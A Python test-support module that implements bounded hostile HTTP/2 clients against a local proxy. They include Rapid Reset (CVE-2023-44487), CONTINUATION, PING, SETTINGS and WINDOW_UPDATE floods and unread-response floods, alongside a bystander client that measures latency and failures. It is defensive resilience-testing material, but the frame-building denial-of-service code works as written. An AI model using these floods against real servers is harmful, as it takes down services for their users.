"""Hostile HTTP/2 clients and a well-behaved bystander, shared by the integration test
(test_abuse_http2.py) and the side-by-side benchmark (bench/abuse.py).

Each attack is a plain blocking client on raw frames, bounded in frames and in time, aimed at
one proxy port (127.0.0.1 only); it returns what it did and whether the proxy closed it. The
`Bystander` is what issue 13 calls the well-behaved client: on other connections to the same
worker, a keep-alive HTTP/1.1 GET and a tcp_proxy echo, each on a fixed interval, every
failure and latency recorded.
"""

from __future__ import annotations

import errno
import http.client
import multiprocessing
import socket
import struct
import threading
import time
from dataclasses import dataclass, field

HOST = "127.0.0.1"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, \
    CONTINUATION = range(10)
END_STREAM, END_HEADERS = 0x1, 0x4
CANCEL = 0x8
S_INITIAL_WINDOW_SIZE = 0x4
DIRECT_BODY = 2048          # bytes of the /direct response the window-update attack reads


def frame(kind: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
    return struct.pack(">LBL", len(payload) << 8 | kind, flags, stream_id) + payload


def request_block(path: str = "/", authority: str = "abuse") -> bytes:
    """GET `path` over http, encoded without the dynamic table (static index for :method GET
    and :scheme http, literals without indexing for :path and :authority), so the same bytes
    serve every stream."""
    def literal(index: int, value: bytes) -> bytes:
        return bytes((index,)) + bytes((len(value),)) + value      # 0000 + 4-bit index
    return b"\x82\x86" + literal(0x04, path.encode()) + literal(0x01, authority.encode())


# -- the proxies' config ------------------------------------------------------------------------

def bootstrap(admin: int, http_port: int, tcp_port: int, http_upstream: int,
              echo_upstream: int, http2_options: dict | None = None) -> dict:
    """One HTTP listener (`/direct` answered by the proxy itself, the rest routed to the HTTP
    upstream) and one tcp_proxy listener to the echo upstream: the same v3 bootstrap for
    Baton and Envoy. `http2_options`: the HCM's http2_protocol_options, if any."""
    def cluster(name: str, port: int) -> dict:
        return {"name": name, "type": "STATIC", "connect_timeout": "1s", "load_assignment": {
            "cluster_name": name, "endpoints": [{"lb_endpoints": [{"endpoint": {"address": {
                "socket_address": {"address": HOST, "port_value": port}}}}]}]}}

    def listener(name: str, port: int, network_filter: dict) -> dict:
        return {"name": name, "address": {"socket_address": {"address": HOST, "port_value": port}},
                "filter_chains": [{"filters": [network_filter]}]}

    hcm = {"@type": "type.googleapis.com/envoy.extensions.filters.network.http_connection_manager"
                    ".v3.HttpConnectionManager",
           "stat_prefix": "ingress_http",
           "route_config": {"name": "r", "virtual_hosts": [{"name": "all", "domains": ["*"], "routes": [
               {"match": {"prefix": "/direct"},
                "direct_response": {"status": 200, "body": {"inline_string": "d" * DIRECT_BODY}}},
               {"match": {"prefix": "/"}, "route": {"cluster": "app"}}]}]},
           "http_filters": [{"name": "envoy.filters.http.router", "typed_config": {
               "@type": "type.googleapis.com/envoy.extensions.filters.http.router.v3.Router"}}]}
    if http2_options:
        hcm["http2_protocol_options"] = http2_options
    tcp = {"@type": "type.googleapis.com/envoy.extensions.filters.network.tcp_proxy.v3.TcpProxy",
           "stat_prefix": "echo", "cluster": "echo"}
    return {"admin": {"address": {"socket_address": {"address": HOST, "port_value": admin}}},
            "static_resources": {
                "listeners": [
                    listener("http", http_port, {"name": "envoy.filters.network.http_connection_manager",
                                                 "typed_config": hcm}),
                    listener("tcp", tcp_port, {"name": "envoy.filters.network.tcp_proxy",
                                               "typed_config": tcp})],
                "clusters": [cluster("app", http_upstream), cluster("echo", echo_upstream)]}}


# -- the attacks ----------------------------------------------------------------------------------

@dataclass
class Outcome:
    attack: str
    frames: int = 0             # frames the attacker sent
    connections: int = 0
    closed: int = 0             # connections the proxy closed (EOF or reset) before the end
    seconds: float = 0.0
    note: str = ""


def _connect(port: int, rcvbuf: int | None = None, timeout: float = 5.0) -> socket.socket:
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    if rcvbuf:
        # Set before connecting, so the window the kernel offers stays small: a client that
        # never reads fills the proxy's buffers quickly.
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
    sock.settimeout(timeout)
    sock.connect((HOST, port))
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return sock


def _drain(sock: socket.socket) -> bool:
    """Read whatever is there without waiting; False once the proxy closed the connection."""
    timeout = sock.gettimeout()
    sock.settimeout(0)      # a socket with a timeout would wait for data despite MSG_DONTWAIT
    try:
        while True:
            if not sock.recv(1 << 20):
                return False
    except BlockingIOError:
        return True
    except OSError:
        return False
    finally:
        sock.settimeout(timeout)


def _send(sock: socket.socket, data: bytes) -> bool:
    """False when the proxy closed or reset the connection (or stopped reading for good)."""
    try:
        sock.sendall(data)
        return True
    except socket.timeout:
        return False
    except OSError as exc:
        if exc.errno in (errno.ECONNRESET, errno.EPIPE, errno.ENOTCONN):
            return False
        raise


def _closed_soon(sock: socket.socket, timeout: float) -> bool:
    """Whether the proxy closes the connection within `timeout` (what it sends is read and
    dropped meanwhile)."""
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        sock.settimeout(max(deadline - time.monotonic(), 0.01))
        try:
            if not sock.recv(1 << 20):
                return True
        except socket.timeout:
            return False
        except OSError:
            return True
    return False


def rapid_reset(port: int, connections: int = 5, pairs: int = 20_000, batch: int = 200,
                deadline_s: float = 20.0) -> Outcome:
    """CVE-2023-44487: on each connection, HEADERS (a whole GET) and RST_STREAM(CANCEL) pairs,
    `batch` pairs per write, up to `pairs` pairs or until the proxy closes it."""
    out = Outcome("rapid reset", connections=connections)
    block = request_block("/rapid")
    start = time.monotonic()
    for _ in range(connections):
        sock = _connect(port)
        alive = _send(sock, PREFACE + frame(SETTINGS, 0, 0))
        stream_id = 1
        while alive and stream_id < 2 * pairs and time.monotonic() - start < deadline_s:
            chunk = bytearray()
            for _ in range(batch):
                chunk += frame(HEADERS, END_STREAM | END_HEADERS, stream_id, block)
                chunk += frame(RST_STREAM, 0, stream_id, struct.pack(">L", CANCEL))
                stream_id += 2
            alive = _send(sock, bytes(chunk)) and _drain(sock)
            out.frames += 2 * batch
        if not alive or _closed_soon(sock, 2.0):
            out.closed += 1
        sock.close()
    out.seconds = time.monotonic() - start
    return out


def _flood(name: str, port: int, opening: bytes, one: bytes, frames: int, connections: int,
           batch: int, deadline_s: float, reads: bool = True) -> Outcome:
    """`connections` connections one after the other, each sending `opening` then `one`
    frame over and over (`batch` per write) until the proxy closes it or `frames` frames
    went out on it. `reads`: the client drains what the proxy sends; else it never reads
    (a small receive buffer, so that the proxy's side fills quickly)."""
    out = Outcome(name, connections=connections)
    start = time.monotonic()
    chunk = one * batch
    for _ in range(connections):
        sock = _connect(port, rcvbuf=None if reads else 4096, timeout=deadline_s)
        alive = _send(sock, PREFACE + frame(SETTINGS, 0, 0) + opening)
        sent = 0
        while alive and sent < frames and time.monotonic() - start < deadline_s:
            alive = _send(sock, chunk) and (not reads or _drain(sock))
            sent += batch
        out.frames += sent
        # Still open: reading now shows whether the proxy ended it meanwhile.
        out.closed += int(not alive or _closed_soon(sock, 2.0))
        sock.close()
    out.seconds = time.monotonic() - start
    return out


def control_flood(port: int, kind: str = "ping", frames: int = 1_000_000, connections: int = 1,
                  batch: int = 2000, deadline_s: float = 20.0) -> Outcome:
    """A client that never reads and sends PING (or empty SETTINGS) frames, each of which
    asks for an ACK."""
    one = frame(PING, 0, 0, b"abuse!!!") if kind == "ping" else frame(SETTINGS, 0, 0)
    return _flood(f"{kind} flood, never reading", port, b"", one, frames, connections, batch,
                  deadline_s, reads=False)


def empty_continuation_flood(port: int, frames: int = 200_000, connections: int = 1,
                             batch: int = 5000, deadline_s: float = 20.0) -> Outcome:
    """A header block that never ends: HEADERS without END_HEADERS, then empty CONTINUATION
    frames."""
    return _flood("empty CONTINUATION flood", port, frame(HEADERS, 0, 1, request_block()),
                  frame(CONTINUATION, 0, 1), frames, connections, batch, deadline_s)


def window_update_flood(port: int, frames: int = 100_000, connections: int = 1,
                        batch: int = 1000, deadline_s: float = 20.0) -> Outcome:
    """WINDOW_UPDATE frames on the connection, with nothing sent to the client."""
    return _flood("WINDOW_UPDATE flood", port, b"",
                  frame(WINDOW_UPDATE, 0, 0, struct.pack(">L", 1)), frames, connections, batch,
                  deadline_s)


def settings_window_flood(port: int, streams: int = 1000, frames: int = 2000, batch: int = 8,
                          deadline_s: float = 20.0) -> Outcome:
    """`streams` streams held open by a closed window (SETTINGS_INITIAL_WINDOW_SIZE 0, then
    GET /direct, whose response waits for window), then full SETTINGS frames of 2,730
    INITIAL_WINDOW_SIZE entries each, 0 and 1 in turn (so every window ends where it was):
    a proxy that walks the streams once per entry does ~2.7 million window updates per
    frame. The client reads (the acks are not what this attack is about)."""
    block = request_block("/direct")
    opening = frame(SETTINGS, 0, 0, struct.pack(">HL", S_INITIAL_WINDOW_SIZE, 0)) + b"".join(
        frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * i, block) for i in range(streams))
    entries = b"".join(struct.pack(">HL", S_INITIAL_WINDOW_SIZE, i & 1) for i in range(2730))
    return _flood("SETTINGS window changes", port, opening, frame(SETTINGS, 0, 0, entries),
                  frames, 1, batch, deadline_s)


def header_block_flood(port: int, requests: int = 200, fields: int = 5000, batch: int = 8,
                       deadline_s: float = 20.0) -> Outcome:
    """Requests of `fields` header fields each (about 190 KB decoded, over the 60 KiB limit:
    each stream is reset and the connection lives on), `batch` per write, as HEADERS and
    CONTINUATION frames; literals without indexing, so the same block serves every stream."""
    out = Outcome("header blocks of many fields", connections=1)
    start = time.monotonic()
    block = request_block("/direct") + b"".join(
        b"\x00" + bytes((len(name),)) + name + b"\x01v"
        for name in (b"x-%d" % i for i in range(fields)))
    chunks = [block[i:i + 16384] for i in range(0, len(block), 16384)]
    sock = _connect(port, timeout=deadline_s)
    alive = _send(sock, PREFACE + frame(SETTINGS, 0, 0))
    stream_id = 1
    while alive and out.frames < requests and time.monotonic() - start < deadline_s:
        data = bytearray()
        for _ in range(batch):
            data += frame(HEADERS, END_STREAM, stream_id, chunks[0])
            for i, chunk in enumerate(chunks[1:], 1):
                data += frame(CONTINUATION, END_HEADERS if i == len(chunks) - 1 else 0,
                              stream_id, chunk)
            stream_id += 2
        alive = _send(sock, bytes(data)) and _drain(sock)
        out.frames += batch
    out.closed = int(not alive or _closed_soon(sock, 2.0))
    sock.close()
    out.seconds = time.monotonic() - start
    return out


def response_flood(port: int, streams: int = 200_000, batch: int = 500,
                   deadline_s: float = 20.0) -> Outcome:
    """A client that opens every window wide, asks for response after response (GET /direct,
    answered by the proxy itself) and never reads them: the proxy's frames pile up."""
    out = Outcome("responses never read", connections=1)
    start = time.monotonic()
    sock = _connect(port, rcvbuf=4096, timeout=deadline_s)
    widest = 2**31 - 1
    alive = _send(sock, PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HL", S_INITIAL_WINDOW_SIZE,
                                                                     widest))
                  + frame(WINDOW_UPDATE, 0, 0, struct.pack(">L", widest - 65535)))
    block = request_block("/direct")
    stream_id = 1
    while alive and out.frames < streams and stream_id < 2**31 - 2 * batch and \
            time.monotonic() - start < deadline_s:
        chunk = bytearray()
        for _ in range(batch):
            chunk += frame(HEADERS, END_STREAM | END_HEADERS, stream_id, block)
            stream_id += 2
        alive = _send(sock, bytes(chunk))
        out.frames += batch
    out.closed = int(not alive or _closed_soon(sock, 2.0))
    sock.close()
    out.seconds = time.monotonic() - start
    return out


@dataclass
class StreamsOutcome(Outcome):
    answered: int = 0           # streams whose whole response arrived
    refused: int = 0            # streams reset by the proxy (REFUSED_STREAM past its limit)
    data_frames: int = 0


def many_streams_window_updates(port: int, streams: int = 2000, window: int = 256,
                                deadline_s: float = 20.0) -> StreamsOutcome:
    """Many concurrent streams, each GET /direct, read through a tiny stream window with a
    WINDOW_UPDATE (stream and connection) for every DATA frame: the proxy must hold every
    response and serve them a few bytes at a time."""
    out = StreamsOutcome("many streams, WINDOW_UPDATE per DATA", connections=1)
    start = time.monotonic()
    sock = _connect(port, timeout=deadline_s)
    block = request_block("/direct")
    opening = bytearray(PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HL", S_INITIAL_WINDOW_SIZE,
                                                                     window)))
    for i in range(streams):
        opening += frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * i, block)
    out.frames = streams + 1
    alive = _send(sock, bytes(opening))
    done = 0
    buf = bytearray()
    while alive and done < streams and time.monotonic() - start < deadline_s:
        try:
            chunk = sock.recv(1 << 20)
        except OSError:
            chunk = b""
        if not chunk:
            alive = False
            break
        buf += chunk
        pos, replies = 0, bytearray()
        while len(buf) - pos >= 9:
            length_type, flags, stream_id = struct.unpack_from(">LBL", buf, pos)
            length, kind = length_type >> 8, length_type & 0xFF
            if len(buf) - pos < 9 + length:
                break
            pos += 9 + length
            if kind == DATA:
                out.data_frames += 1
                if length:
                    increment = struct.pack(">L", length)
                    replies += frame(WINDOW_UPDATE, 0, stream_id, increment)
                    replies += frame(WINDOW_UPDATE, 0, 0, increment)
                    out.frames += 2
                if flags & END_STREAM:
                    out.answered += 1
                    done += 1
            elif kind == RST_STREAM:
                out.refused += 1
                done += 1
            elif kind == HEADERS and flags & END_STREAM:
                out.answered += 1
                done += 1
            elif kind == GOAWAY:
                alive = False
        del buf[:pos]
        if replies:
            alive = alive and _send(sock, bytes(replies))
    out.closed = int(not alive)
    out.note = f"{out.answered} answered, {out.refused} refused, {out.data_frames} DATA frames"
    sock.close()
    out.seconds = time.monotonic() - start
    return out


# -- the well-behaved client -----------------------------------------------------------------------

@dataclass
class Damage:
    """What the bystander saw during an attack."""
    requests: int = 0
    failures: int = 0
    latencies: list = field(default_factory=list)
    errors: list = field(default_factory=list)
    by_client: dict = field(default_factory=dict)   # "http" / "echo" -> its latencies

    def p99(self, client: str | None = None) -> float:
        latencies = self.latencies if client is None else self.by_client.get(client, [])
        if not latencies:
            return 0.0
        ordered = sorted(latencies)
        return ordered[min(len(ordered) - 1, int(len(ordered) * 0.99))]


class Bystander:
    """A keep-alive HTTP/1.1 GET and a tcp_proxy echo, each every `interval` seconds, on their
    own connections, until stopped. A failure: an error, a timeout (`timeout`), a status other
    than 200, an echo that came back different.

    It runs in a process of its own: in the attacker's process, the attacker's loops would
    hold the GIL and the latencies measured would be Python's, not the proxy's."""

    def __init__(self, http_port: int, tcp_port: int, interval: float = 0.02,
                 timeout: float = 2.0):
        self.args = (http_port, tcp_port, interval, timeout)
        self.timeout = timeout
        self.damage = Damage()

    def __enter__(self) -> "Bystander":
        context = multiprocessing.get_context("fork")
        self._pipe, child = context.Pipe()
        self._count = context.Value("i", 0)
        self._proc = context.Process(target=_bystander_process,
                                     args=(child, self._count, *self.args), daemon=True)
        self._proc.start()
        if not self._pipe.poll(self.timeout + 15):
            self._kill()
            raise RuntimeError("the bystander's first exchanges did not complete")
        ready = self._pipe.recv()
        if ready != "warm":
            self._kill()
            raise RuntimeError(f"the bystander could not start: {ready}")
        return self

    def __exit__(self, *exc) -> None:
        self._pipe.send("stop")
        if self._pipe.poll(self.timeout + 15):
            self.damage = Damage(**self._pipe.recv())
        self._kill()

    @property
    def exchanges(self) -> int:
        """Exchanges recorded so far (the bystander is still running)."""
        return self._count.value

    def _kill(self) -> None:
        self._proc.join(5)
        if self._proc.is_alive():
            self._proc.kill()
            self._proc.join(5)


def _bystander_process(pipe, count, http_port: int, tcp_port: int, interval: float,
                       timeout: float) -> None:
    try:
        clients = _Clients(http_port, tcp_port, interval, timeout, count).__enter__()
    except Exception as exc:        # told to the parent, which fails with it
        pipe.send(f"{type(exc).__name__}: {exc}")
        return
    pipe.send("warm")
    pipe.recv()                     # "stop"
    clients.__exit__(None, None, None)
    damage = clients.damage
    pipe.send({"requests": damage.requests, "failures": damage.failures,
               "latencies": damage.latencies, "errors": damage.errors[:20],
               "by_client": damage.by_client})


class _Clients:
    """The bystander's two clients, as threads (inside the bystander's own process)."""

    def __init__(self, http_port: int, tcp_port: int, interval: float, timeout: float,
                 count):
        self.http_port, self.tcp_port = http_port, tcp_port
        self.interval, self.timeout = interval, timeout
        self.damage = Damage()
        self._count = count             # shared with the parent: exchanges recorded
        self._stop = threading.Event()
        self._lock = threading.Lock()
        self._threads = [threading.Thread(target=self._http, daemon=True),
                         threading.Thread(target=self._echo, daemon=True)]

    def __enter__(self) -> "_Clients":
        """Start, and return once both clients have been answered once (connections open,
        the upstream pool warm): what follows is what an attack does to a client already
        there. Those first exchanges are not recorded."""
        self._warm = threading.Barrier(3, timeout=self.timeout + 10)
        for thread in self._threads:
            thread.start()
        self._warm.wait()
        return self

    def __exit__(self, *exc) -> None:
        self._stop.set()
        for thread in self._threads:
            thread.join(self.timeout + 5)

    def _record(self, client: str, started: float, error: str | None, warming: bool) -> bool:
        """Record one exchange; returns whether this client is still warming up."""
        if warming:
            if error is None:
                self._warm.wait()
                return False
            return True
        with self._lock:
            self._count.value += 1
            self.damage.requests += 1
            if error is None:
                latency = time.monotonic() - started
                self.damage.latencies.append(latency)
                self.damage.by_client.setdefault(client, []).append(latency)
            else:
                self.damage.failures += 1
                self.damage.errors.append(error)
        return False

    def _http(self) -> None:
        conn = None
        warming = True
        while not self._stop.wait(self.interval):
            started = time.monotonic()
            try:
                if conn is None:
                    conn = http.client.HTTPConnection(HOST, self.http_port, timeout=self.timeout)
                conn.request("GET", "/bystander", headers={"x-test-key": "bystander"})
                resp = conn.getresponse()
                resp.read()
                error = None if resp.status == 200 else f"GET: status {resp.status}"
            except (OSError, http.client.HTTPException) as exc:
                error = f"GET: {type(exc).__name__}: {exc}"
                conn = None
            warming = self._record("http", started, error, warming)
        if conn is not None:
            conn.close()

    def _echo(self) -> None:
        sock = None
        n = 0
        warming = True
        while not self._stop.wait(self.interval):
            started = time.monotonic()
            payload = f"echo {n}\n".encode()
            n += 1
            try:
                if sock is None:
                    sock = socket.create_connection((HOST, self.tcp_port), timeout=self.timeout)
                sock.sendall(payload)
                got = b""
                while len(got) < len(payload):
                    chunk = sock.recv(len(payload) - len(got))
                    if not chunk:
                        raise ConnectionError("echo connection closed")
                    got += chunk
                error = None if got == payload else f"echo: got {got!r}"
            except OSError as exc:
                error = f"echo: {type(exc).__name__}: {exc}"
                sock = None
            warming = self._record("echo", started, error, warming)
        if sock is not None:
            sock.close()
